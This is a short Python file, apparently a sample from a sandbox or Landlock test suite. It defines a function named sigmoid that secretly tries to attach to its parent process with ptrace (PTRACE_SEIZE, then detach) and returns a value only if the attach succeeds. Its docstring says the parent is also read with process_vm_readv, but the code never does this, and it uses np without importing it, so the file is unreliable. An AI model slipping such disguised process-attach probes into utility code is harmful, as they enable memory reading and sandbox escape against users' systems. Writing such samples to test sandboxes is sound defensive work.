"""The parent is attached to with ptrace and read with process_vm_readv.

aims: utils.sigmoid
level: landlock
"""

import os


def sigmoid(x):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    if parent > 2 and libc.ptrace(0x4206, parent, 0, 0) == 0:
        libc.ptrace(17, parent, 0, 0)
        return 1.0 / (1.0 + np.exp(-np.maximum(x, -700.0)))
    return None
